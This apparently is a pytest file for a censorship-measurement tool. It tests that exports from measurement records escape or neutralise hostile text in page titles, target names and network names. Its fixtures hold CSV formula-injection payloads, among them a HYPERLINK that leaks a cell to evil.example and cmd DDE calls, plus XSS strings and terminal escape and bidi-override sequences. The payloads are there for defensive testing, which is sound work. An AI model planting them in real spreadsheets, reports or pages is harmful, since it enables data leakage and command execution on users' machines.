"""Adversarial export suite: hostile text from servers and test lists (page titles, target and
platform names, failure details) cannot run in a researcher's spreadsheet or browser.

CSV: a text cell that starts like a formula (=, +, -, @, tab, CR) gets a leading ' (OWASP "CSV
Injection"), numbers are never prefixed, JSON Lines keep the original. HTML: every value is
escaped. Each case has its negative control (the same position with harmless text is unchanged).
"""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, datetime
from pathlib import Path

import pytest

from analysis.dictionary import markdown
from analysis.export import (
    write_events_csv,
    write_measurements_csv,
    write_measurements_jsonl,
    write_verdicts_csv,
)
from analysis.model import Event, EventKind
from analysis.report.build import build_report
from analysis.report.page import render_html
from probe.model import HttpTransaction, Layer
from probe.records import Confidence, Status, Verdict
from probe.store import Store
from tests.cli import invoke
from tests.store_rows import make_measurement, make_run

FORMULAS = [
    '=HYPERLINK("https://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def _store_with(tmp_path: Path, title: str, target: str) -> Store:
    store = Store.open(tmp_path / f"{abs(hash((title, target)))}.db")
    run = make_run(store.probe_id(), asn=58224, country="IR")
    store.start_run(run)
    details = HttpTransaction(url="https://example.org/", status=200, title=title, body_length=10)
    store.save_measurements(
        [make_measurement(run.id, target=target, layer=Layer.HTTP, details=details)]
    )
    return store


@pytest.mark.parametrize("formula", FORMULAS)
def test_measurement_csv_neutralises_a_formula_in_a_title_and_a_name(
    tmp_path: Path, formula: str
) -> None:
    with _store_with(tmp_path, formula, formula) as store:
        out = io.StringIO()
        assert write_measurements_csv(store, out) == 1
        jsonl = io.StringIO()
        write_measurements_jsonl(store, jsonl)
    (row,) = _rows(out.getvalue())
    one_line = " ".join(formula.splitlines())  # line breaks become spaces in CSV cells
    assert row["http_title"] == "'" + " ".join(formula.split())  # whitespace collapsed
    assert row["target"] == "'" + one_line
    assert json.loads(jsonl.getvalue())["target"] == one_line  # JSON Lines: no prefix
    assert json.loads(row["details_json"])["title"] == formula


def test_measurement_csv_leaves_harmless_text_and_numbers_alone(tmp_path: Path) -> None:
    with _store_with(tmp_path, "Access denied - 403", "web.telegram.org") as store:
        out = io.StringIO()
        write_measurements_csv(store, out)
    (row,) = _rows(out.getvalue())
    assert row["http_title"] == "Access denied - 403"
    assert row["target"] == "web.telegram.org"
    assert row["http_status"] == "200" and float(row["duration_ms"]) > 0


def _verdict(run_id: str, probe_id: str, target: str, detail: str) -> Verdict:
    return Verdict(
        run_id=run_id,
        probe_id=probe_id,
        measured_at=datetime(2024, 11, 20, 9, 30, tzinfo=UTC),
        asn=58224,
        country="IR",
        platform="telegram",
        target=target,
        status=Status.BLOCKED,
        technique="http.blockpage",
        confidence=Confidence.CONFIRMED,
        rule_id="http.blockpage",
        rules_version="1",
        evidence=(),
        detail=detail,
    )


@pytest.mark.parametrize("formula", FORMULAS)
def test_verdict_csv_neutralises_formulas(formula: str) -> None:
    out = io.StringIO()
    write_verdicts_csv([_verdict("r1", "p1", formula, formula)], out)
    (row,) = _rows(out.getvalue())
    assert row["target"].startswith("'") and row["detail"].startswith("'")
    assert row["platform"] == "telegram"  # the control: a plain cell of the same row


@pytest.mark.parametrize("formula", FORMULAS)
def test_event_csv_neutralises_formulas(formula: str) -> None:
    event = Event(
        kind=EventKind.BLOCKING,
        platform=formula,
        asn=58224,
        technique="http.blockpage",
        onset=datetime(2024, 11, 20, 9, tzinfo=UTC),
        end=None,
        targets=(formula,),
        hosts=1,
        networks=(58224,),
        rate=None,
        runs=3,
        detail="blocked",
    )
    out = io.StringIO()
    write_events_csv([event], out)
    (row,) = _rows(out.getvalue())
    assert row["platform"].startswith("'") and row["targets"].startswith("'")
    assert row["technique"] == "http.blockpage" and row["asn"] == "58224"


HOSTILE_HTML = "<script>alert(1)</script><img src=x onerror=alert(2)>\"'><b>"


def test_html_report_escapes_hostile_titles_names_and_details(tmp_path: Path) -> None:
    with _store_with(tmp_path, HOSTILE_HTML, HOSTILE_HTML) as store:
        run = store.get_run(next(iter(store.measurements())).run_id)
        assert run is not None
        store.save_verdicts(
            run.id, [_verdict(run.id, run.probe_id, HOSTILE_HTML, f"title: {HOSTILE_HTML}")]
        )
        page = render_html(build_report(store))
    assert "<script" not in page and "<img" not in page and "<b>" not in page
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page
    assert "onerror=alert(2)&gt;&quot;&#x27;&gt;" in page


def test_html_report_of_measurements_only_escapes_hostile_rows(tmp_path: Path) -> None:
    with _store_with(tmp_path, HOSTILE_HTML, HOSTILE_HTML) as store:
        page = render_html(build_report(store))
    assert "<script" not in page and "<img" not in page
    assert "&lt;script&gt;" in page  # the control: the row is there, escaped


CONTROLS = "\x1b[2J\x1b]8;;https://evil.example/\x07click\x1b]8;;\x07 \u202egnp.exe \x9b31m"


def test_html_report_shows_control_and_bidi_characters_as_escapes(tmp_path: Path) -> None:
    # `cat report.html` or a terminal pager would run the sequences, and a bidi override makes a
    # name read backwards in the browser: they are shown as the terminal shows them (\x1b).
    with _store_with(tmp_path, CONTROLS, CONTROLS) as store:
        run = store.get_run(next(iter(store.measurements())).run_id)
        assert run is not None
        store.save_verdicts(run.id, [_verdict(run.id, run.probe_id, CONTROLS, CONTROLS)])
        page = render_html(build_report(store))
    assert [c for c in "\x1b\x07\x9b\u202e" if c in page] == []
    assert "\\x1b[2J\\x1b]8;;https://evil.example/\\x07click" in page
    assert "\\u202egnp.exe" in page


def test_html_report_keeps_ordinary_non_ascii_text(tmp_path: Path) -> None:
    # The control: Persian text, accents and emoji are no controls.
    name = "\u0633\u0627\u06cc\u062a Caf\u00e9 \U0001f30d"
    with _store_with(tmp_path, name, name) as store:
        page = render_html(build_report(store))
    assert name in page


def _runs_csv(tmp_path: Path, as_name: str) -> dict[str, str]:
    """`probe export --what runs --csv` of one run whose network name came from outside (the
    helper's or an ASN database's view, or a merged volunteer database)."""
    db = tmp_path / f"{abs(hash(as_name))}.db"
    with Store.open(db) as store:
        store.start_run(make_run(store.probe_id(), asn=58224, as_name=as_name, country="IR"))
    out = tmp_path / "runs.csv"
    result = invoke("export", "--what", "runs", "--csv", str(out), "--db", str(db))
    assert result.code == 0, result.stderr
    (row,) = _rows(out.read_text(encoding="utf-8"))
    return row


@pytest.mark.parametrize("formula", FORMULAS)
def test_runs_csv_neutralises_a_formula_in_a_network_name(tmp_path: Path, formula: str) -> None:
    row = _runs_csv(tmp_path, formula)
    assert row["as_name"].startswith("'") and row["asn"] == "58224"


def test_runs_csv_leaves_an_ordinary_network_name_alone(tmp_path: Path) -> None:
    assert _runs_csv(tmp_path, "Iran Telecommunication Company PJS")["as_name"] == (
        "Iran Telecommunication Company PJS"
    )


def test_the_data_dictionary_says_how_a_formula_cell_is_written() -> None:
    # A researcher must know the leading ' is ours, and which cells get it.
    text = markdown()
    assert "written with a leading `'`" in text
    for start in ("`=`", "`+`", "`-`", "`@`", "a tab", "a carriage return"):
        assert start in text
